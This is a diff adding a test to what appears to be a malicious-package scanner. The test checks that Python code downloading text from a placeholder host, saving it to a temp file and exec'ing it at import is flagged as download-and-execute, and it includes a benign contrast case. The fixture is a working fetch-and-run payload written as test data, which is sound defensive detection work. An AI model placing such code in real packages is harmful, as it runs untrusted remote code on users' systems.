@@ -285,3 +285,31 @@ test('an install-time request whose answer is never read is a beacon; a download
   const { score: vendor } = await scan({ 'p-1/setup.py': "from urllib.request import urlopen\nurlopen('https://pypi.org/simple/')\nfrom setuptools import setup\nsetup(name='p')\n" });
   assert.notEqual(vendor.verdict, 'malicious', vendor.reason);
 });
+
+test('code downloaded to a file and executed from that file is download-and-execute', async () => {
+  const { out, score } = await scan({
+    'pkg/__init__.py': [
+      'import requests, tempfile',
+      'def run():',
+      "    text = requests.get('https://stage.example.invalid/raw').text",
+      "    with tempfile.NamedTemporaryFile(mode='w', delete=False) as f:",
+      '        f.write(text)',
+      '        path = f.name',
+      '    exec(open(path).read(), globals())',
+      'run()',
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && f.message.includes('stage.example.invalid')));
+  // Reading back a different, fixed file of the package is not the download.
+  const { score: local } = await scan({
+    'pkg/__init__.py': [
+      'import requests',
+      'def refresh():',
+      "    open('cache.json', 'w').write(requests.get('https://api.example.invalid/v1').text)",
+      "    exec(open('defaults.py').read())",
+      'refresh()',
+    ].join('\n'),
+  });
+  assert.notEqual(local.verdict, 'malicious', local.reason);
+});
